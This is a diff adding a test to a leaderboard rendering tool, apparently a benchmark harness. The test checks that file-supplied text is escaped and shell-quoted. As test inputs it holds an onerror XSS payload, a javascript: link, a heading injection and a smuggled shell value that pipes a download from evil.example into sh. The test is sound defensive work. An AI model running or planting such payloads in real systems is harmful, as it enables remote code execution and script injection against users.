@@ -418,3 +418,40 @@ def test_render_refuses_a_folder_that_is_a_link_out_of_the_leaderboard(rendered,
     assert err.startswith(f"clbench: error: {out / name}: {name} is a symbolic link (to {elsewhere})") and "\n" not in err
     assert (elsewhere / "keep.html").read_text() == "<p>someone else's page</p>"
     assert (out / "README.md").read_text() == before  # nothing written
+
+
+IMG = "<img src=x onerror=alert(1)>"
+LINK = "[a](javascript:alert(1))"
+SHELL = "x.yaml; curl http://evil.example/x | sh #"
+
+
+def test_what_render_takes_from_files_is_quoted_and_escaped(rendered, tmp_path):
+    """suite.json and entries are files anyone may have written: their text is shown, never read as
+    Markdown, HTML or shell (a source path run by 'Regenerate:', an <img onerror>, a javascript: link,
+    a line that would start a heading)."""
+    import json
+    import shlex
+
+    from markdown_it import MarkdownIt
+
+    out = tmp_path / "lb"
+    shutil.copytree(rendered, out)
+    manifest = json.loads((out / "suite.json").read_text())
+    some = E.load_entries(out)[0]
+    cfg = {**some["config"], "strategy": {"class_path": LINK, "init_args": {}}}
+    failed = E.failed_entry(cfg, f"boom {IMG}", env=some["env"], wall_seconds=1.0, suite=manifest["name"])
+    E.write_entry(out, failed)
+    manifest.update(name=f"smoke`{IMG}", description=f"two domains {IMG} {LINK}\n# heading", source=SHELL)
+    manifest["runs"].append({"hash": failed["config_hash"]})
+    (out / "suite.json").write_text(json.dumps(manifest))
+    assert main(["leaderboard", "render", str(out)]) == 0
+    readme, page = (out / "README.md").read_text(), (out / "index.html").read_text()
+    regenerate = f"clbench leaderboard run --suite {shlex.quote(SHELL)} --output {shlex.quote(str(out))}"
+    assert regenerate in readme and regenerate in html.unescape(page)
+    shown = MarkdownIt("commonmark", {"html": True}).enable("table").render(readme)  # as a Markdown viewer shows it
+    assert "<img" not in shown and "javascript:" not in shown.replace("(javascript:alert(1))", "")
+    assert shown.count("<a href") == 1 and '<a href="index.html">' in shown  # the template's own link only
+    assert "<h1>heading" not in shown and f"<code>smoke`{html.escape(IMG, quote=False)}</code>" in shown
+    assert html.escape(IMG, quote=False) in shown and "[a](javascript:alert(1))" in html.unescape(shown)
+    assert "\n# heading" not in readme
+    assert IMG not in page and html.escape(IMG) in page and 'href="javascript' not in page
